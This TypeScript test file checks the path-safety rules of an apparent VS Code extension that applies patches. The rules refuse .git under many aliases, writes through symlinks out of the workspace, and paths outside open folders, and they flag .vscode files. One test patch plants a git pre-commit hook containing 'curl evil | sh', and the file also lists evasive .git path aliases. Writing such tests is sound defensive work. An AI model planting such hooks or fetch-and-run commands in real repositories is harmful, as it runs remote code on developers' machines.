/**
 * Where Apply may write, on a real temp folder: `.git` under every alias is refused by the plan; a path through a
 * symlink out of the workspace, outside the open folders, or (through a link) into `.git` is refused; `.vscode` and
 * workspace files are reported (by the patch path or where a link leads) for the person to name; the daemon's folder
 * is used only inside an open one.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, test } from 'node:test';
import { parseGitPatch } from '../../../../extension/changeSets/patchParser';
import { planChangeSetApply, unsafePathProblem } from '../../../../extension/ui/changeSets/applyPlan';
import { checkApplyTargets, targetFolder } from '../../../../extension/ui/changeSets/applyTargets';

const temp = fs.mkdtempSync(path.join(os.tmpdir(), 'sb-targets-'));
after(() => fs.rmSync(temp, { recursive: true, force: true }));

const repo = path.join(temp, 'repo');
const outside = path.join(temp, 'outside');
fs.mkdirSync(path.join(repo, '.vscode'), { recursive: true });
fs.mkdirSync(path.join(repo, '.git', 'hooks'), { recursive: true });
fs.mkdirSync(path.join(repo, 'pkg'), { recursive: true });
fs.mkdirSync(outside, { recursive: true });
fs.writeFileSync(path.join(outside, 'secret.txt'), 'secret\n');
fs.symlinkSync(outside, path.join(repo, 'escape'));
fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(repo, 'secret-link.txt'));
fs.symlinkSync(path.join(repo, '.vscode'), path.join(repo, 'conf'));
fs.symlinkSync(path.join(repo, '.git', 'hooks'), path.join(repo, 'hooks'));

test('the plan refuses .git under every alias a file system opens it by', () => {
  for (const alias of ['.git./config', '.GIT/config', '.Git /hooks/pre-commit', 'GIT~1/hooks/pre-commit', 'sub/git~2/config', '.git::$INDEX_ALLOCATION/hooks/x']) {
    assert.match(unsafePathProblem(alias) ?? '', /\.git directory/, alias);
  }
  const [file] = parseGitPatch(
    'diff --git a/GIT~1/hooks/pre-commit b/GIT~1/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/GIT~1/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n',
  ).files;
  assert.equal(file?.newPath, 'GIT~1/hooks/pre-commit');
  const plan = planChangeSetApply([file!], [{ index: 0 }], () => ({ exists: false }));
  assert.equal(plan.ok, false);
  assert.match(!plan.ok ? plan.problems[0]!.reason : '', /\.git directory; refusing to write it/);
});

test('a path through a symlink out of the workspace is refused; so is one outside the open folders', async () => {
  const checked = await checkApplyTargets(repo, [repo], ['escape/planted.txt', 'secret-link.txt', 'pkg/ok.txt', 'new/dir/file.txt']);
  assert.deepEqual(
    checked.problems.map((p) => [p.path, p.reason]),
    [
      ['escape/planted.txt', 'goes through a symbolic link to outside the workspace; refusing to write it'],
      ['secret-link.txt', 'goes through a symbolic link to outside the workspace; refusing to write it'],
    ],
  );
  assert.deepEqual(checked.guarded, []);
  // The editor has only repo/pkg open: the rest of the repository is not written.
  const narrow = await checkApplyTargets(repo, [path.join(repo, 'pkg')], ['pkg/ok.txt', 'README.md']);
  assert.deepEqual(
    narrow.problems.map((p) => p.path),
    ['README.md'],
  );
  assert.match(narrow.problems[0]!.reason, /outside the folders open in the editor/);
});

test('protected paths are reported by the patch path or where a link leads; a link into .git is refused', async () => {
  const checked = await checkApplyTargets(repo, [repo], ['.vscode/settings.json', 'conf/tasks.json', 'team.code-workspace', 'hooks/pre-commit', 'src/a.ts']);
  assert.deepEqual(
    checked.guarded.map((g) => [g.path, g.kind]),
    [
      ['.vscode/settings.json', 'vscode'],
      ['conf/tasks.json', 'vscode'],
      ['team.code-workspace', 'workspaceFile'],
    ],
  );
  assert.deepEqual(
    checked.problems.map((p) => p.path),
    ['hooks/pre-commit'],
  );
  assert.match(checked.problems[0]!.reason, /leads into the \.git folder/);
});

test('the daemon-reported folder is used only inside a folder open in the editor', async () => {
  assert.deepEqual(await targetFolder(path.join(repo, 'pkg'), [repo]), { folder: path.join(repo, 'pkg') });
  assert.deepEqual(await targetFolder(repo, [repo]), { folder: repo });
  assert.deepEqual(await targetFolder(undefined, [repo]), { folder: repo });
  const elsewhere = await targetFolder(outside, [repo]);
  assert.ok('problem' in elsewhere && /not inside a folder open in this window/.test(elsewhere.problem), JSON.stringify(elsewhere));
  // Through a symlink inside the open folder to outside it: where it really is counts.
  assert.ok('problem' in (await targetFolder(path.join(repo, 'escape'), [repo])));
  assert.ok('problem' in (await targetFolder('relative/dir', [repo])));
  assert.ok('problem' in (await targetFolder(undefined, [])));
});
